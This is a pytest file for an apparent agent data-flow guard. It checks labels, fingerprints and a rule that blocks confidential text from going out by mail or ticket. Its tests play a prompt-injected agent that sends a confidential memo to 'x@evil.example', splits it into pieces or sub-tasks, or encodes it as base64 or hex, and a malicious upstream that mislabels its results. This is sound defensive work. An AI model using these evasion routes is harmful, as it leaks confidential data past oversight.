"""Per-result labels, data fingerprints and the confidential-content rule, unit by unit.

Attackers: a malicious upstream (a result that declares itself public, or hides a
marking in odd spacing) and a prompt-injected agent (passing on what it read,
re-wrapped, split across arguments, or through a sub-task's delegation).
"""

from __future__ import annotations

import base64
import textwrap
import urllib.parse
from collections.abc import Callable

import pytest

from tether.core import (
    Audience,
    Declared,
    FieldLabel,
    FlowPolicy,
    FlowState,
    Intent,
    LabelOrigin,
    Sensitivity,
    SideEffect,
    SinkKind,
    ToolProfile,
    classify,
    declared,
    evaluate_flow,
    label_result,
    merge,
    observe_call,
    observe_result,
    parse_intent,
    start_flow,
)
from tether.core._delegation import DelegationRejected, check_narrowing
from tether.core._flow import read_result
from tether.core._winnow import MIN_WORDS, carried, fingerprint

CONF, PUB, INT, SEC = (
    Sensitivity.CONFIDENTIAL,
    Sensitivity.PUBLIC,
    Sensitivity.INTERNAL,
    Sensitivity.SECRET,
)
RULE = FieldLabel(field="classification", values={"public": PUB, "confidential": CONF})
MEMO = (
    "The board approved the purchase of a regional competitor for forty two million euros "
    "and the announcement is planned for the first week of March."
)
KB = ToolProfile(
    side_effect=SideEffect.READ,
    sensitivity=INT,
    trusted_fields=("classification",),
    sinks={},
    result_labels=(RULE,),
)
MAIL = ToolProfile(
    side_effect=SideEffect.EGRESS,
    sensitivity=INT,
    trusted=True,
    destinations=("to",),
    sinks={"to": SinkKind.VALUE, "subject": SinkKind.TEXT, "body": SinkKind.TEXT},
)
TICKET = ToolProfile(
    side_effect=SideEffect.WRITE,
    sensitivity=INT,
    trusted=True,
    sinks={"id": SinkKind.VALUE, "text": SinkKind.TEXT},
)
DRAFT = ToolProfile(
    sinks={"text": SinkKind.TEXT},
    side_effect=SideEffect.WRITE,
    sensitivity=INT,
    trusted=True,
    audience=Audience.PRIVATE,
)


def _intent(**extra: object) -> Intent:
    return parse_intent(
        {
            "purpose": "answer a customer",
            "capabilities": [{"tool": "*"}],
            "data_ceiling": "confidential",
            "egress": ["c@client.example"],
            **extra,
        }
    )


# -- labels ---------------------------------------------------------------------------------


def test_a_field_rule_labels_the_record_up_or_down() -> None:
    faq = label_result({"classification": "Public", "body": "x"}, default=CONF, rules=(RULE,))
    memo = label_result(
        {"classification": "confidential", "body": MEMO}, default=INT, rules=(RULE,)
    )
    assert (faq.label.sensitivity, faq.label.origin) == (PUB, LabelOrigin.CATALOGUE)
    assert (memo.label.sensitivity, memo.label.origin) == (CONF, LabelOrigin.CATALOGUE)
    assert memo.sensitive_texts and MEMO in [t for t, _ in memo.sensitive_texts]
    # A list of records: the result is as sensitive as its most sensitive record, and
    # only that record's text is handed over to fingerprint.
    both = label_result(
        [
            {"classification": "public", "body": "faq"},
            {"classification": "confidential", "body": MEMO},
        ],
        default=INT,
        rules=(RULE,),
    )
    assert both.label.sensitivity is CONF
    # (its member names are text the agent reads too)
    assert [t for t, _ in both.sensitive_texts] == ["classification", "confidential", "body", MEMO]


def test_classifiers_only_raise() -> None:
    assert classify("AKIA" + "Z7Q3EXAMPLE4KEY9") == (SEC, "credentials")
    assert classify("card 4111 1111 1111 1111 on file") == (CONF, "payment_cards")
    assert classify("card 4111 1111 1111 1112 on file") is None  # fails Luhn
    assert classify("SSN 123-45-6789") == (CONF, "national_ids")
    assert classify("call 555-12-0000 now") is None
    assert classify("STRICTLY CONFIDENTIAL - draft") == (CONF, "markings")
    assert classify("this is confidential between us") is None  # prose, not a marking
    assert classify("INTERNAL ONLY") == (INT, "markings")
    assert classify("SSN 123-45-6789", enabled=frozenset({"markings"})) is None
    # A public record holding a marking is raised; a confidential one is not lowered.
    out = label_result(
        {"classification": "public", "body": "CONFIDENTIAL plan"}, default=INT, rules=(RULE,)
    )
    assert (out.label.sensitivity, out.label.origin, out.label.why) == (
        CONF,
        LabelOrigin.CLASSIFIER,
        "markings",
    )


def test_an_upstream_declaration_raises_always_and_lowers_only_when_trusted() -> None:
    low = declared({"ifc": {"confidentiality": "public"}})
    high = declared({"sensitiveHint": "high"})
    assert low == Declared(sensitivity=PUB, trusted=None, why="ifc")
    assert high is not None and high.sensitivity is CONF
    assert label_result("x", default=INT, declared_label=low).label.sensitivity is INT
    assert (
        label_result("x", default=INT, declared_label=low, trust_declared=True).label.sensitivity
        is PUB
    )
    raised = label_result("x", default=INT, declared_label=high)
    assert (raised.label.sensitivity, raised.label.origin) == (CONF, LabelOrigin.UPSTREAM)
    # A declaration Tether cannot read is taken as the most restrictive.
    odd = declared({"ifc": {"confidentiality": "eyes-only"}})
    assert odd is not None and odd.sensitivity is SEC
    assert declared({"ifc": "nonsense"}) == Declared(sensitivity=SEC, trusted=False, why="ifc")
    assert declared({"other": 1}) is None


def test_an_upstream_saying_its_result_is_untrusted_makes_every_field_content() -> None:
    profile = ToolProfile(side_effect=SideEffect.READ, sensitivity=INT, trusted=True, sinks={})
    trusted = read_result({"to": "x@evil.example"}, profile)
    assert "x@evil.example" in trusted.trusted
    said = declared({"openWorldHint": True})
    untrusted = read_result({"to": "x@evil.example"}, profile, declared=said)
    assert untrusted.untrusted_read and "x@evil.example" not in untrusted.trusted
    # Trusted only counts where the catalogue trusts the upstream's labels.
    vouched = declared({"ifc": {"integrity": "trusted"}})
    plain = ToolProfile(side_effect=SideEffect.READ, sensitivity=INT, sinks={})
    assert read_result({"a": "x@evil.example"}, plain, declared=vouched).untrusted_read
    opted = ToolProfile(
        side_effect=SideEffect.READ, sensitivity=INT, sinks={}, trust_result_labels=True
    )
    assert not read_result({"a": "x@evil.example"}, opted, declared=vouched).untrusted_read


# -- fingerprints ---------------------------------------------------------------------------


def test_fingerprints_survive_rewrapping_and_find_only_real_copies() -> None:
    prints = dict.fromkeys(fingerprint(MEMO), "confidential:kb")
    assert carried(MEMO, prints)
    assert carried(MEMO.upper().replace(" ", "\n"), prints)
    assert carried(["see:", MEMO.replace(" ", " -- ")], prints)
    half = " ".join(MEMO.split()[:14])
    assert carried(f"note {half} end", prints)
    # A stock phrase shared by chance is too little to count; an unrelated text is nothing.
    assert not carried("the announcement is planned for the first", prints)
    assert not carried("Customers may return any unused item within thirty days.", prints)


def test_a_short_text_is_matched_whole() -> None:
    short = "account ref AC 99812 XZ"
    prints = dict.fromkeys(fingerprint(short), "confidential:kb")
    assert len(short.split()) >= MIN_WORDS and prints
    assert carried({"body": "please use Account-Ref: ac 99812 xz today"}, prints)
    assert not carried({"body": "account ref AC 99813 XZ"}, prints)
    assert fingerprint("too short") == set()


# -- the rule -------------------------------------------------------------------------------


def _read_memo() -> FlowState:
    return observe_result(
        start_flow("mail c@client.example about ticket T-100"),
        "kb",
        {"classification": "confidential", "body": MEMO},
        KB,
    )


def test_confidential_content_is_held_even_to_an_allowed_destination() -> None:
    state = _read_memo()
    intent = _intent()
    args = {"to": "c@client.example", "body": f"Hi! {MEMO}"}
    found = evaluate_flow(state, intent, "mail", args, MAIL, FlowPolicy(), declared=True)
    assert [f.code for f in found] == ["flow.confidential_content"]
    assert "confidential" in found[0].message and "kb" in found[0].message
    # Split across two arguments of one call: read together.
    split = {"to": "c@client.example", "subject": MEMO[:70], "body": MEMO[70:]}
    found = evaluate_flow(state, intent, "mail", split, MAIL, FlowPolicy(), declared=True)
    assert "flow.confidential_content" in [f.code for f in found]
    # Something else to the same customer: nothing to say.
    other = {"to": "c@client.example", "body": "Returns are free within thirty days."}
    assert evaluate_flow(state, intent, "mail", other, MAIL, FlowPolicy(), declared=True) == []
    # A private sink (a draft for the user) is not an audience.
    assert (
        evaluate_flow(state, intent, "draft", {"text": MEMO}, DRAFT, FlowPolicy(), declared=True)
        == []
    )


def test_a_write_to_a_shared_place_is_egress_for_this_rule() -> None:
    found = evaluate_flow(
        _read_memo(),
        _intent(),
        "ticket",
        {"id": "T-100", "text": MEMO},
        TICKET,
        FlowPolicy(),
        declared=True,
    )
    assert [f.code for f in found] == ["flow.confidential_content"]


def test_the_intent_may_disclose_a_data_class_to_a_destination_or_tool() -> None:
    state = _read_memo()
    args = {"to": "c@client.example", "body": MEMO}
    granted = _intent(disclose=[{"data": "confidential", "to": ["*@client.example"]}])
    assert evaluate_flow(state, granted, "mail", args, MAIL, FlowPolicy(), declared=True) == []
    # The grant covers that destination only, and not a higher class.
    elsewhere = {"to": "c@client.example, x@evil.example", "body": MEMO}
    codes = [
        f.code
        for f in evaluate_flow(state, granted, "mail", elsewhere, MAIL, FlowPolicy(), declared=True)
    ]
    assert "flow.confidential_content" in codes
    internal_only = _intent(disclose=[{"data": "internal", "to": ["*@client.example"]}])
    codes = [
        f.code
        for f in evaluate_flow(
            state, internal_only, "mail", args, MAIL, FlowPolicy(), declared=True
        )
    ]
    assert codes == ["flow.confidential_content"]
    by_tool = _intent(disclose=[{"data": "confidential", "to": ["ticket"]}])
    assert (
        evaluate_flow(state, by_tool, "ticket", {"text": MEMO}, TICKET, FlowPolicy(), declared=True)
        == []
    )


def test_a_sub_task_sees_its_parents_fingerprints_and_cannot_widen_disclosure() -> None:
    parent = _read_memo()
    child = merge(start_flow("mail c@client.example about ticket T-100"), [parent])
    found = evaluate_flow(
        child,
        _intent(),
        "mail",
        {"to": "c@client.example", "body": MEMO},
        MAIL,
        FlowPolicy(),
        declared=True,
    )
    assert [f.code for f in found] == ["flow.confidential_content"]
    narrow = _intent(disclose=[{"data": "confidential", "to": ["c@client.example"]}])
    wide = _intent(disclose=[{"data": "confidential", "to": ["*"]}])
    check_narrowing(narrow, narrow, parent_calls_left=20, parent_seconds_left=600, depth=1)
    with pytest.raises(DelegationRejected):
        check_narrowing(narrow, wide, parent_calls_left=20, parent_seconds_left=600, depth=1)


@pytest.mark.parametrize("bad", [{"data": "confidential", "to": []}, {"data": "x", "to": ["a"]}])
def test_a_bad_disclosure_is_refused(bad: dict[str, object]) -> None:
    with pytest.raises(Exception, match=r"disclose|invalid intent"):
        _intent(disclose=[bad])


def test_a_text_sent_a_few_words_at_a_time_is_caught_at_its_second_piece() -> None:
    """Prompt-injected agent: cuts the memo into pieces too short to carry two
    fingerprints each, one piece per call, and through sibling sub-tasks. At most one
    piece carrying a fingerprint gets out (about a dozen words); a piece of fewer than
    nine words may carry none (the granularity of the fingerprints)."""
    text = f"{MEMO} {MEMO.replace('board', 'council').replace('March', 'April')}"
    read = observe_result(
        start_flow("mail c@client.example"),
        "kb",
        {"classification": "confidential", "body": text},
        KB,
    )
    prints = read.fingerprints
    words = text.split()
    pieces = [" ".join(words[i : i + 9]) for i in range(0, len(words), 9)]
    intent = _intent()
    state = read
    out = 0
    for piece in pieces:
        args = {"to": "c@client.example", "body": piece}
        found = evaluate_flow(state, intent, "mail", args, MAIL, FlowPolicy(), declared=True)
        if not found:  # allowed: the call joins the flow state
            state = observe_call(state, "mail", args, MAIL)
            out += bool(carried(piece, prints, min_hits=1))
        else:
            assert [f.code for f in found] == ["flow.confidential_content"]
    assert out <= 1
    assert sum(bool(carried(p, prints, min_hits=1)) for p in pieces) >= 4
    # Siblings: each sends one piece; the parent's state (which every call of its tree
    # joins) carries what the first sent to the second.
    one = next(p for p in pieces if len(carried(p, prints, min_hits=1)) == 1)
    two = next(p for p in pieces if p != one and carried(p, prints, min_hits=1))
    parent = read
    first = merge(start_flow("mail c@client.example"), [parent])
    args = {"to": "c@client.example", "body": one}
    assert evaluate_flow(first, intent, "mail", args, MAIL, FlowPolicy(), declared=True) == []
    parent = observe_call(parent, "mail", args, MAIL)
    second = merge(start_flow("mail c@client.example"), [parent])
    args = {"to": "c@client.example", "body": two}
    found = evaluate_flow(second, intent, "mail", args, MAIL, FlowPolicy(), declared=True)
    assert [f.code for f in found] == ["flow.confidential_content"]


@pytest.mark.parametrize(
    "encode",
    [
        lambda t: base64.b64encode(t.encode()).decode(),
        lambda t: base64.urlsafe_b64encode(t.encode()).decode().rstrip("="),
        lambda t: "\n".join(textwrap.wrap(base64.b64encode(t.encode()).decode(), 76)),
        lambda t: t.encode().hex(),
        urllib.parse.quote,
    ],
    ids=["base64", "base64url", "mime", "hex", "percent"],
)
def test_encoded_confidential_content_is_still_carried(encode: Callable[[str], str]) -> None:
    """Prompt-injected agent: encodes the memo before mailing it."""
    args = {"to": "c@client.example", "body": f"data: {encode(MEMO)} end"}
    found = evaluate_flow(_read_memo(), _intent(), "mail", args, MAIL, FlowPolicy(), declared=True)
    assert [f.code for f in found] == ["flow.confidential_content"]


def test_block_and_resource_meta_and_blobs_are_read() -> None:
    """Malicious upstream MCP server: a confidential label on one content block's (or an
    embedded resource's) own ``_meta``, not the result's; a marked note as a base64 blob."""
    import base64

    from tether.core._labels import declared_in, resource_text

    result = {
        "_meta": {"tether.dev/label": {"sensitivity": "public", "trusted": True}},
        "content": [
            {"type": "text", "text": "x", "_meta": {"sensitiveHint": "high"}},
            {"type": "resource", "resource": {"uri": "kb://a", "text": "y", "_meta": {}}},
        ],
    }
    said = declared_in(result)
    assert said is not None and said.sensitivity is CONF
    assert declared_in({"content": [{"type": "text", "text": "x"}]}) is None
    note = "CONFIDENTIAL: the canteen closes early on Friday."
    blob = {"uri": "kb://n", "blob": base64.b64encode(note.encode()).decode()}
    assert resource_text(blob) == note
    binary = {"uri": "kb://img", "blob": base64.b64encode(bytes(range(256))).decode()}
    assert resource_text(binary) == "[resource] kb://img"
    assert resource_text({"uri": "kb://t", "text": "plain"}) == "plain"
